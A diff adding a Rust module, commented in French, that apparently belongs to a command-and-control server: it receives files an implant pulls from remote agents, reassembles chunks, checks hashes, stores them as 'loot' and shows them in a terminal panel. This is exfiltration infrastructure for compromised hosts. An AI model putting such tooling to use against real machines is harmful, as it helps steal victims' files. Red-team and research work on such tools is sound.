@@ -0,0 +1,409 @@
+use std::fs;
+use std::path::PathBuf;
+
+use base64::engine::general_purpose::STANDARD;
+use base64::Engine;
+use chrono::Utc;
+use crossterm::event::{KeyCode, KeyEvent};
+use ratatui::layout::{Constraint, Rect};
+use ratatui::text::{Line, Span};
+use ratatui::widgets::{Clear, Paragraph, Row, Table, TableState};
+use ratatui::Frame;
+use ring::digest::{digest, SHA256};
+use rusqlite::{Connection, OptionalExtension, Row as SqlRow, Transaction};
+use serde::Deserialize;
+
+use crate::crypto::open_payload_text;
+use crate::db::{complete_task, write_transaction};
+use crate::error::{Error, Result};
+use crate::screenshots::{beside_db, safe_component, PayloadType};
+use crate::theme::ColorScheme;
+use crate::timefmt::now_timestamp;
+use crate::viewer::{hex_line, looks_binary, HEX_ROW};
+
+// Fichier rapatrié depuis un agent par une tâche download <chemin distant>. L'implant
+// rend le contenu en base64 dans la sortie de la tâche, ou en tranches sur
+// /task/<id>/chunk pour un gros fichier. Le fichier est écrit sous loot/<agent>/ et la
+// sortie de la tâche devient son chemin local.
+pub const DOWNLOAD_COMMAND: &str = "download";
+// Au-delà, Entrée n'affiche que la taille : le fichier s'ouvre avec un outil externe
+const MAX_PREVIEW_BYTES: u64 = 64 * 1024;
+// Garde-fou contre un total annoncé absurde : 65536 tranches de 1 Mo font déjà 64 Go
+const MAX_CHUNKS: u32 = 65536;
+
+#[derive(Debug, Clone)]
+pub struct LootFile {
+    pub id: i64,
+    pub agent_id: String,
+    pub task_id: i64,
+    pub remote_path: String,
+    pub local_path: String,
+    pub size: u64,
+    pub sha256: String,
+    pub created_at: String,
+}
+
+// Tranche d'un fichier : total et sha256 (du fichier entier) sont répétés dans chacune,
+// seq part de 0. Les tranches peuvent arriver dans le désordre.
+#[derive(Debug, Deserialize)]
+pub struct DownloadChunk {
+    pub seq: u32,
+    pub total: u32,
+    pub sha256: String,
+    pub data: String,
+}
+
+pub fn ensure_files_tables(conn: &Connection) -> rusqlite::Result<()> {
+    conn.execute_batch(
+        "CREATE TABLE IF NOT EXISTS files (
+            id INTEGER PRIMARY KEY AUTOINCREMENT,
+            agent_id TEXT NOT NULL,
+            task_id INTEGER NOT NULL,
+            remote_path TEXT NOT NULL,
+            local_path TEXT NOT NULL,
+            size INTEGER NOT NULL,
+            sha256 TEXT NOT NULL,
+            created_at TEXT NOT NULL,
+            FOREIGN KEY(agent_id) REFERENCES agents(id)
+        );
+        CREATE TABLE IF NOT EXISTS download_chunks (
+            task_id INTEGER NOT NULL,
+            seq INTEGER NOT NULL,
+            total INTEGER NOT NULL,
+            sha256 TEXT NOT NULL,
+            data BLOB NOT NULL,
+            PRIMARY KEY(task_id, seq)
+        );",
+    )
+}
+
+pub fn sha256_hex(data: &[u8]) -> String {
+    digest(&SHA256, data).as_ref().iter().map(|b| format!("{:02x}", b)).collect()
+}
+
+// Agent et chemin distant d'une tâche download encore en attente de son fichier
+fn download_task(conn: &Connection, task_id: i64) -> Result<(String, String)> {
+    let task: Option<(String, String, String, String)> = conn
+        .query_row(
+            "SELECT agent_id, command, payload_type, status FROM tasks WHERE id = ?1",
+            [task_id],
+            |row| Ok((row.get(0)?, row.get(1)?, row.get(2)?, row.get(3)?)),
+        )
+        .optional()?;
+    let Some((agent_id, command, payload_type, status)) = task else {
+        return Err(Error::TaskNotFound(task_id));
+    };
+    if payload_type != PayloadType::Download.as_str() {
+        return Err(Error::Download(format!("la tâche {} attend une sortie {}", task_id, payload_type)));
+    }
+    if matches!(status.as_str(), "done" | "failed") {
+        return Err(Error::Download(format!("la tâche {} est déjà terminée", task_id)));
+    }
+    let command = open_payload_text(conn, &agent_id, command)?;
+    // Le mot download a pu être saisi dans n'importe quelle casse : seul ce qui le suit compte
+    let remote_path = command.trim().split_once(char::is_whitespace).map_or("", |(_, rest)| rest).trim().to_string();
+    Ok((agent_id, remote_path))
+}
+
+pub fn is_download_task(conn: &Connection, task_id: i64) -> rusqlite::Result<bool> {
+    let payload_type: Option<String> = conn
+        .query_row("SELECT payload_type FROM tasks WHERE id = ?1", [task_id], |row| row.get(0))
+        .optional()?;
+    Ok(payload_type.as_deref() == Some(PayloadType::Download.as_str()))
+}
+
+// Dernier composant du chemin distant, qu'il vienne de Windows ou d'Unix
+fn basename(remote_path: &str) -> String {
+    let name = remote_path.rsplit(['/', '\\']).find(|part| !part.is_empty()).unwrap_or("file");
+    safe_component(name)
+}
+
+// Écrit loot/<agent_id>/<horodatage>_<nom> et termine la tâche avec ce chemin. Une
+// empreinte annoncée qui ne correspond pas fait échouer la tâche : rien n'est écrit.
+pub fn store_download(conn: &Connection, task_id: i64, data: &[u8], declared_sha256: Option<&str>) -> Result<LootFile> {
+    let tx = conn.unchecked_transaction()?;
+    let stored = save_download(&tx, task_id, data, declared_sha256);
+    finish_download(tx, stored)
+}
+
+// Une empreinte fausse a mis la tâche en échec : cet échec est gardé. Toute autre erreur,
+// une écriture impossible par exemple, annule la transaction et l'agent peut renvoyer
+fn finish_download(tx: Transaction, stored: Result<LootFile>) -> Result<LootFile> {
+    if matches!(stored, Ok(_) | Err(Error::Download(_))) {
+        tx.commit()?;
+    }
+    stored
+}
+
+// Sans transaction propre : appelée aussi depuis celle de store_download_chunk
+fn save_download(conn: &Connection, task_id: i64, data: &[u8], declared_sha256: Option<&str>) -> Result<LootFile> {
+    let (agent_id, remote_path) = download_task(conn, task_id)?;
+    let sha256 = sha256_hex(data);
+    if let Some(declared) = declared_sha256
+        && !declared.trim().eq_ignore_ascii_case(&sha256)
+    {
+        let reason = format!("empreinte {} annoncée, {} reçue", declared.trim(), sha256);
+        complete_task(conn, task_id, &reason, true)?;
+        return Err(Error::Download(format!("tâche {} : {}", task_id, reason)));
+    }
+    let dir = beside_db(conn, "loot").join(safe_component(&agent_id));
+    fs::create_dir_all(&dir)?;
+    let path = dir.join(format!("{}_{}", Utc::now().format("%Y%m%dT%H%M%S%.3fZ"), basename(&remote_path)));
+    fs::write(&path, data)?;
+    let file = LootFile {
+        id: 0,
+        agent_id,
+        task_id,
+        remote_path,
+        local_path: path.display().to_string(),
+        size: data.len() as u64,
+        sha256,
+        created_at: now_timestamp(),
+    };
+    conn.execute(
+        "INSERT INTO files (agent_id, task_id, remote_path, local_path, size, sha256, created_at)
+         VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7)",
+        (&file.agent_id, task_id, &file.remote_path, &file.local_path, file.size, &file.sha256, &file.created_at),
+    )?;
+    let id = conn.last_insert_rowid();
+    complete_task(conn, task_id, &file.local_path, false)?;
+    Ok(LootFile { id, ..file })
+}
+
+// Fichier entier dans la sortie d'une tâche, en base64
+pub fn store_download_base64(conn: &Connection, task_id: i64, output: &str) -> Result<LootFile> {
+    let cleaned: String = output.chars().filter(|c| !c.is_whitespace()).collect();
+    let data = STANDARD
+        .decode(cleaned)
+        .map_err(|e| Error::Download(format!("sortie de la tâche {} illisible : {}", task_id, e)))?;
+    store_download(conn, task_id, &data, None)
+}
+
+// Range une tranche ; à la dernière reçue, le fichier est recollé dans l'ordre de seq,
+// vérifié contre l'empreinte annoncée et écrit. Renvoie le fichier une fois complet.
+pub fn store_download_chunk(conn: &Connection, task_id: i64, chunk: &DownloadChunk) -> Result<Option<LootFile>> {
+    download_task(conn, task_id)?;
+    if chunk.total == 0 || chunk.total > MAX_CHUNKS || chunk.seq >= chunk.total {
+        return Err(Error::Download(format!("tranche {}/{} invalide", chunk.seq, chunk.total)));
+    }
+    let data = STANDARD
+        .decode(chunk.data.trim())
+        .map_err(|e| Error::Download(format!("tranche {} illisible : {}", chunk.seq, e)))?;
+    let tx = write_transaction(conn)?;
+    let declared: Option<(u32, String)> = tx
+        .query_row(
+            "SELECT total, sha256 FROM download_chunks WHERE task_id = ?1 LIMIT 1",
+            [task_id],
+            |row| Ok((row.get(0)?, row.get(1)?)),
+        )
+        .optional()?;
+    if let Some((total, sha256)) = declared
+        && (total != chunk.total || !sha256.eq_ignore_ascii_case(chunk.sha256.trim()))
+    {
+        return Err(Error::Download(format!("tranche {} : total ou empreinte différents des précédentes", chunk.seq)));
+    }
+    tx.execute(
+        "INSERT OR REPLACE INTO download_chunks (task_id, seq, total, sha256, data) VALUES (?1, ?2, ?3, ?4, ?5)",
+        (task_id, chunk.seq, chunk.total, chunk.sha256.trim(), &data),
+    )?;
+    let received: u32 = tx.query_row("SELECT COUNT(*) FROM download_chunks WHERE task_id = ?1", [task_id], |row| row.get(0))?;
+    if received < chunk.total {
+        tx.commit()?;
+        return Ok(None);
+    }
+    let whole: Vec<u8> = {
+        let mut stmt = tx.prepare("SELECT data FROM download_chunks WHERE task_id = ?1 ORDER BY seq")?;
+        let parts = stmt.query_map([task_id], |row| row.get::<_, Vec<u8>>(0))?;
+        let mut whole = Vec::new();
+        for part in parts {
+            whole.extend(part?);
+        }
+        whole
+    };
+    tx.execute("DELETE FROM download_chunks WHERE task_id = ?1", [task_id])?;
+    // Une empreinte fausse laisse la tâche en échec : les tranches ne servent plus. Sur une
+    // erreur d'écriture, elles restent en base pour une nouvelle dernière tranche
+    let stored = save_download(&tx, task_id, &whole, Some(chunk.sha256.as_str()));
+    finish_download(tx, stored).map(Some)
+}
+
+fn file_from_row(row: &SqlRow) -> rusqlite::Result<LootFile> {
+    Ok(LootFile {
+        id: row.get(0)?,
+        agent_id: row.get(1)?,
+        task_id: row.get(2)?,
+        remote_path: row.get(3)?,
+        local_path: row.get(4)?,
+        size: row.get(5)?,
+        sha256: row.get(6)?,
+        created_at: row.get(7)?,
+    })
+}
+
+// Le plus récent en premier
+pub fn load_files(conn: &Connection, agent_id: &str) -> rusqlite::Result<Vec<LootFile>> {
+    let mut stmt = conn.prepare_cached(
+        "SELECT id, agent_id, task_id, remote_path, local_path, size, sha256, created_at
+         FROM files WHERE agent_id = ?1 ORDER BY id DESC",
+    )?;
+    let rows = stmt.query_map([agent_id], file_from_row)?;
+    rows.collect()
+}
+
+// Les fichiers restent sur disque : seule leur trace en base part avec l'agent
+pub fn remove_all_files(conn: &Connection, agent_id: &str) -> rusqlite::Result<()> {
+    conn.execute(
+        "DELETE FROM download_chunks WHERE task_id IN (SELECT id FROM tasks WHERE agent_id = ?1)",
+        [agent_id],
+    )?;
+    conn.execute("DELETE FROM files WHERE agent_id = ?1", [agent_id])?;
+    Ok(())
+}
+
+// Texte tel quel, ou hex/ASCII dès qu'un octet nul ou une séquence invalide apparaît
+pub fn preview_lines(data: &[u8]) -> Vec<String> {
+    if looks_binary(data) {
+        return data.chunks(HEX_ROW).enumerate().map(|(i, row)| hex_line(i * HEX_ROW, row)).collect();
+    }
+    String::from_utf8_lossy(data)
+        .lines()
+        .map(|line| line.chars().map(|c| if c.is_control() && c != '\t' { '.' } else { c }).collect())
+        .collect()
+}
+
+fn read_preview(file: &LootFile) -> Vec<String> {
+    if file.size > MAX_PREVIEW_BYTES {
+        return vec![format!(
+            "{} octets : trop grand pour l'aperçu (o pour le chemin sur disque)",
+            file.size,
+        )];
+    }
+    match fs::read(&file.local_path) {
+        Ok(data) => preview_lines(&data),
+        Err(e) => vec![format!("Lecture de {} impossible : {}", file.local_path, e)],
+    }
+}
+
+pub enum LootOutcome {
+    Pending,
+    Closed,
+    // Chemin local du fichier sélectionné, pour la barre d'état
+    Reveal(PathBuf),
+}
+
+struct Preview {
+    title: String,
+    lines: Vec<String>,
+    scroll: usize,
+}
+
+// Panneau ouvert avec F sur un agent : ses fichiers rapatriés, rechargés à chaque tick.
+// Entrée ouvre l'aperçu du fichier sélectionné, o donne son chemin sur disque.
+pub struct LootPanel {
+    pub agent_id: String,
+    files: Vec<LootFile>,
+    state: TableState,
+    preview: Option<Preview>,
+    height: usize,
+}
+
+impl LootPanel {
+    pub fn new(agent_id: &str) -> LootPanel {
+        LootPanel {
+            agent_id: agent_id.to_string(),
+            files: Vec::new(),
+            state: TableState::default(),
+            preview: None,
+            height: 0,
+        }
+    }
+
+    pub fn files(&self) -> &[LootFile] {
+        &self.files
+    }
+
+    pub fn set_files(&mut self, files: Vec<LootFile>) {
+        let current = self.selected().map(|f| f.id);
+        self.files = files;
+        let position = current.and_then(|id| self.files.iter().position(|f| f.id == id));
+        self.state.select(position.or((!self.files.is_empty()).then_some(0)));
+    }
+
+    fn selected(&self) -> Option<&LootFile> {
+        self.state.selected().and_then(|i| self.files.get(i))
+    }
+
+    pub fn handle_key(&mut self, key: KeyEvent) -> LootOutcome {
+        if let Some(preview) = self.preview.as_mut() {
+            let page = self.height.max(1);
+            let last = preview.lines.len().saturating_sub(1);
+            match key.code {
+                KeyCode::Esc | KeyCode::Char('q') | KeyCode::Enter => self.preview = None,
+                KeyCode::Down | KeyCode::Char('j') => preview.scroll = (preview.scroll + 1).min(last),
+                KeyCode::Up | KeyCode::Char('k') => preview.scroll = preview.scroll.saturating_sub(1),
+                KeyCode::PageDown => preview.scroll = (preview.scroll + page).min(last),
+                KeyCode::PageUp => preview.scroll = preview.scroll.saturating_sub(page),
+                _ => {}
+            }
+            return LootOutcome::Pending;
+        }
+        let last = self.files.len().saturating_sub(1);
+        let selected = self.state.selected().unwrap_or(0);
+        match key.code {
+            KeyCode::Esc | KeyCode::Char('q') | KeyCode::Char('F') => return LootOutcome::Closed,
+            KeyCode::Down | KeyCode::Char('j') => self.state.select(Some((selected + 1).min(last))),
+            KeyCode::Up | KeyCode::Char('k') => self.state.select(Some(selected.saturating_sub(1))),
+            KeyCode::Enter => {
+                if let Some(file) = self.selected() {
+                    self.preview = Some(Preview {
+                        title: format!("{} ({} octets)", file.remote_path, file.size),
+                        lines: read_preview(file),
+                        scroll: 0,
+                    });
+                }
+            }
+            KeyCode::Char('o') => {
+                if let Some(file) = self.selected() {
+                    return LootOutcome::Reveal(PathBuf::from(&file.local_path));
+                }
+            }
+            _ => {}
+        }
+        LootOutcome::Pending
+    }
+}
+
+pub fn draw_loot_panel(f: &mut Frame, panel: &mut LootPanel, area: Rect, scheme: &ColorScheme) {
+    f.render_widget(Clear, area);
+    panel.height = area.height.saturating_sub(2) as usize;
+    if let Some(preview) = &panel.preview {
+        let lines: Vec<Line> = preview.lines.iter().skip(preview.scroll).map(|l| Line::from(l.clone())).collect();
+        let block = scheme.block(format!("{} — j/k, Échap: liste", preview.title));
+        f.render_widget(Paragraph::new(lines).block(block), area);
+        return;
+    }
+    let block = scheme.block(format!(
+        "Fichiers de {} ({}) — Entrée: aperçu, o: chemin, f dans les tâches: download, Échap",
+        panel.agent_id,
+        panel.files.len(),
+    ));
+    if panel.files.is_empty() {
+        let empty = Line::from(Span::styled("Aucun fichier : download <chemin> depuis les tâches de l'agent", scheme.dim()));
+        f.render_widget(Paragraph::new(empty).block(block), area);
+        return;
+    }
+    let rows: Vec<Row> = panel.files.iter()
+        .map(|file| Row::new(vec![
+            file.created_at.clone(),
+            file.remote_path.clone(),
+            file.size.to_string(),
+            file.sha256.clone(),
+        ]))
+        .collect();
+    let header = Row::new(vec!["Reçu", "Chemin distant", "Octets", "SHA-256"]).style(scheme.accent());
+    let table = Table::new(rows, [Constraint::Length(20), Constraint::Min(20), Constraint::Length(10), Constraint::Length(64)])
+        .header(header)
+        .block(block)
+        .row_highlight_style(scheme.selection());
+    f.render_stateful_widget(table, area, &mut panel.state);
+}